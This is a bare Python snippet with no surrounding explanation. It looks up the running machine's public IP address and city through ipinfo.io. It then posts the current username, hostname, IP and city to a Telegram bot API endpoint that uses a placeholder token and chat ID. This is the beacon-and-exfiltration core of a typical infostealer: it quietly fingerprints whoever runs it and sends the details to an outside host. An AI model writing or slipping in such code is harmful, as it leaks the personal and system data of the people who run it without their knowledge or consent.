import requests, platform, getpass
geo = requests.get("https://ipinfo.io/json", timeout=5).json()
requests.post("https://api.telegram.org/bot000000:AAAA/sendMessage", data={"chat_id": "1", "text": f"{getpass.getuser()} {platform.node()} {geo.get('ip')} {geo.get('city')}"})
